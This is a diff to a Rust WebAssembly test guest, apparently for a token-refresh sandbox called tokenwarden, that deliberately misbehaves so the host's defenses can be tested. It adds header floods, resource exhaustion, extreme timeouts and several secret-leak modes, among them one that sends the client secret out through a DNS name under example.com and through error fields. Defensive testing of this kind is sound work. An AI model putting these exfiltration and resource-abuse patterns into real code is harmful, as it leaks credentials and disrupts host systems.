@@ -1,12 +1,18 @@
 //! A misbehaving guest for tokenwarden's tests. It implements the `refresher` world and does
 //! what the request's `scope` says:
 //! `get:ROLE` reads a secret role, `set:ROLE` writes one, `loop` spins forever,
-//! `grab-memory` allocates until it cannot, `trap` panics, `ok` succeeds without storing.
+//! `grab-memory` allocates until it cannot, `trap` panics, `ok` succeeds without storing,
+//! `http:URL` GETs a URL, `http-zero-timeout:URL` / `http-huge-timeout:URL` with extreme
+//! request options, `header-flood:URL` with 10,000 headers, `handle-flood` creates host
+//! resources without end, `huge-secret` writes a 10 MB token, `leak` prints the client
+//! secret and 100 KB more to stdout and stderr.
 
 #![allow(missing_docs, unsafe_code)]
 
 use exports::tokenwarden::refresh::action::{self, Guest};
 use tokenwarden::refresh::secrets;
+use wasip2::http::outgoing_handler;
+use wasip2::http::types::{ErrorCode, Fields, Method, OutgoingRequest, RequestOptions, Scheme};
 
 wit_bindgen::generate!({
     path: "../../../wit",
@@ -43,6 +49,73 @@ fn outcome(token_type: String) -> action::Outcome {
     }
 }
 
+#[derive(Clone, Copy)]
+enum Timeouts {
+    Default,
+    Zero,
+    Huge,
+}
+
+fn http_error(code: ErrorCode) -> action::Error {
+    match code {
+        ErrorCode::HttpRequestDenied | ErrorCode::DestinationIpProhibited => {
+            action::Error::EgressDenied(format!("{code:?}"))
+        }
+        other => action::Error::Transport(format!("{other:?}")),
+    }
+}
+
+fn http_get(url: &str, timeouts: Timeouts, headers: usize) -> Result<u16, action::Error> {
+    let bad = |m: &str| action::Error::BadRequest(m.to_string());
+    let (scheme, rest) = url.split_once("://").ok_or_else(|| bad("url"))?;
+    let (authority, path) = match rest.find('/') {
+        Some(i) => rest.split_at(i),
+        None => (rest, "/"),
+    };
+    let entries: Vec<(String, Vec<u8>)> = (0..headers)
+        .map(|i| (format!("x-flood-{i}"), vec![b'v'; 64]))
+        .collect();
+    let fields = Fields::from_list(&entries).map_err(|e| bad(&format!("fields: {e:?}")))?;
+    let req = OutgoingRequest::new(fields);
+    req.set_method(&Method::Get).map_err(|_| bad("method"))?;
+    let scheme = if scheme == "https" {
+        Scheme::Https
+    } else {
+        Scheme::Http
+    };
+    req.set_scheme(Some(&scheme)).map_err(|_| bad("scheme"))?;
+    req.set_authority(Some(authority))
+        .map_err(|_| bad("authority"))?;
+    req.set_path_with_query(Some(path))
+        .map_err(|_| bad("path"))?;
+    let options = match timeouts {
+        Timeouts::Default => None,
+        Timeouts::Zero | Timeouts::Huge => {
+            let value = if matches!(timeouts, Timeouts::Zero) {
+                0
+            } else {
+                u64::MAX
+            };
+            let o = RequestOptions::new();
+            let _ = o.set_connect_timeout(Some(value));
+            let _ = o.set_first_byte_timeout(Some(value));
+            let _ = o.set_between_bytes_timeout(Some(value));
+            Some(o)
+        }
+    };
+    let pending = outgoing_handler::handle(req, options).map_err(http_error)?;
+    pending.subscribe().block();
+    match pending.get() {
+        Some(Ok(Ok(resp))) => Ok(resp.status()),
+        Some(Ok(Err(code))) => Err(http_error(code)),
+        _ => Err(action::Error::Transport("no response".into())),
+    }
+}
+
+fn url_mode<'a>(scope: &'a str, prefix: &str) -> Option<&'a str> {
+    scope.strip_prefix(prefix)
+}
+
 impl Guest for Rogue {
     fn refresh(req: action::Request) -> Result<action::Outcome, action::Error> {
         let scope = req.scope;
@@ -55,7 +128,71 @@ impl Guest for Rogue {
             secrets::set(role, "written-by-rogue", None).map_err(secret_error)?;
             return Ok(outcome("set".into()));
         }
+        let http = |url: &str, t, h| http_get(url, t, h).map(|s| outcome(format!("status:{s}")));
+        if let Some(url) = url_mode(&scope, "http:") {
+            return http(url, Timeouts::Default, 0);
+        }
+        if let Some(url) = url_mode(&scope, "http-zero-timeout:") {
+            return http(url, Timeouts::Zero, 0);
+        }
+        if let Some(url) = url_mode(&scope, "http-huge-timeout:") {
+            return http(url, Timeouts::Huge, 0);
+        }
+        if let Some(url) = url_mode(&scope, "header-flood:") {
+            return http(url, Timeouts::Default, 10_000);
+        }
         match scope.as_str() {
+            "handle-flood" => {
+                for _ in 0..1_000_000u32 {
+                    std::mem::forget(Fields::new());
+                }
+                Ok(outcome("flooded".into()))
+            }
+            "huge-secret" => {
+                let huge = "t".repeat(10 << 20);
+                secrets::set("access-token", &huge, None).map_err(secret_error)?;
+                Ok(outcome("stored-huge".into()))
+            }
+            "leak" => {
+                let secret = secrets::get("client-secret")
+                    .map_err(secret_error)?
+                    .unwrap_or_default();
+                println!("the client secret is {secret}");
+                eprintln!("stderr also has {secret}");
+                let filler = "x".repeat(1024);
+                for _ in 0..100 {
+                    println!("{filler}");
+                    eprintln!("{filler}");
+                }
+                Ok(outcome("printed".into()))
+            }
+            "leak-error" => {
+                // Tries to smuggle the secret out through a host name, an error and the outcome.
+                let secret = secrets::get("client-secret")
+                    .map_err(secret_error)?
+                    .unwrap_or_default();
+                let _ = http_get(
+                    &format!("https://{secret}.example.com/"),
+                    Timeouts::Default,
+                    0,
+                );
+                Err(action::Error::Rejected(action::OauthError {
+                    status: 400,
+                    error: format!("invalid_{secret}"),
+                    description: Some(format!("the secret is {secret}")),
+                    error_codes: vec![],
+                    trace_id: Some(secret.clone()),
+                    correlation_id: None,
+                }))
+            }
+            "leak-outcome" => {
+                let secret = secrets::get("client-secret")
+                    .map_err(secret_error)?
+                    .unwrap_or_default();
+                let mut o = outcome(secret.clone());
+                o.scope = Some(secret);
+                Ok(o)
+            }
             "loop" => {
                 let mut n: u64 = 0;
                 loop {
